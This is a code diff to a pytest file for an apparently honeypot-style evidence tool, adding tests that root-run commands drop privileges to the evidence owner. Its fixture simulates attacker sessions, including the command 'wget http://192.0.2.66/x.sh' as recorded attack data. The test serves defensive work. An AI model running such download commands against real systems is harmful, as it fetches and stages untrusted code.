@@ -1,5 +1,6 @@
 """What root reads of the evidence, he reads as its owner."""
 
+import hashlib
 import json
 import os
 import pwd
@@ -7,15 +8,22 @@ import shutil
 import subprocess
 import sys
 from pathlib import Path
+from typing import Any
 
 import pytest
 
 from hermes.config.keeping import RecordingConfig
+from hermes.evidence.artifacts import path
 from hermes.recording.recorder import SessionRecorder
 from hermes.server.backend import SessionInfo
+from tests.unit.analysis.sensor import left_by
+from tests.unit.analysis.world import artifact, attack
 from tests.unit.store.facts import login, logout, write
 
 pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="only root has power to give up")
+
+CONTENT = b"payload"
+SHA256 = hashlib.sha256(CONTENT).hexdigest()
 
 WATCHED = """
 import json, os, sys
@@ -58,13 +66,13 @@ def data(tmp_path: Path) -> Path:
     return data
 
 
-def give(data: Path, user: str) -> None:
+def give(data: Path, user: str, *places: str) -> None:
     account = pwd.getpwnam(user)
-    for place in ("journal", "recordings"):
+    for place in places or ("journal", "recordings"):
         subprocess.run(["chown", "-R", f"{account.pw_uid}:{account.pw_gid}", data / place], check=True)
 
 
-def run(data: Path, *arguments: str) -> tuple[dict[str, object], bytes]:
+def run(data: Path, *arguments: str) -> tuple[dict[str, Any], bytes]:
     environ = {**os.environ, "HERMES_DATA_DIR": str(data)}
     done = subprocess.run(
         [sys.executable, "-c", WATCHED, *arguments], env=environ, cwd="/", capture_output=True, timeout=60, check=True
@@ -97,6 +105,45 @@ def test_root_becomes_the_owner(data: Path, arguments: list[str], code: int, say
     assert facts == {
         "code": code, "uids": [str(account.pw_uid)] * 4, "gids": [str(account.pw_gid)] * 4, "groups": [], "late": [],
     }  # fmt: skip
+
+
+@pytest.fixture(scope="module")
+def whole(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """What a sensor and its analyst leave: two sessions of one campaign, and a file that both brought."""
+    data = tmp_path_factory.mktemp("whole") / "data"
+    data.mkdir()
+    made = left_by(
+        data,
+        *attack("first", "wget http://192.0.2.66/x.sh", more=[artifact(SHA256)]),
+        *attack("second", "whoami", address="192.0.2.9", more=[artifact(SHA256)]),
+    )
+    place = path(made.artifacts_dir, SHA256)
+    place.parent.mkdir(parents=True)
+    place.write_bytes(CONTENT)
+    for directory in (made.outputs_dir, made.recordings_dir):
+        directory.mkdir()
+    for one in (data, *data.parents):
+        if not one.stat().st_mode & 0o001:
+            one.chmod(one.stat().st_mode | 0o011)
+    give(data, "nobody", "journal", "recordings", "index", "outputs", "artifacts")
+    return data
+
+
+WHOLE = [
+    ["search", "wget"], ["search", "wget", "--json"], ["stats"], ["stats", "--by", "day", "--json"],
+    ["artifacts", "list"], ["artifacts", "show", "SHA256"], ["artifacts", "export", "SHA256", "-o", "{data}/a.zip"],
+    ["campaigns", "list"], ["techniques", "list"], ["stix", "session", "first", "-o", "{data}/stix.json"],
+    ["outputs", "list"], ["outputs", "list", "--json"], ["verify-evidence", "--json"],
+    ["sessions", "timeline", "first"], ["sessions", "export", "first", "second", "-o", "{data}/b.zip"],
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("arguments", WHOLE, ids=" ".join)
+def test_nothing_is_imported_once_root_is_another(whole: Path, arguments: list[str]) -> None:
+    facts, said = run(whole, *(it.format(data=whole).replace("SHA256", SHA256) for it in arguments))
+    assert facts["late"] == []
+    assert facts["code"] == 0, said
+    assert "0" not in facts["uids"], "it did not become the owner"
 
 
 @pytest.mark.parametrize("arguments", [["sessions", "list"], ["sessions", "replay", "5e55"]])
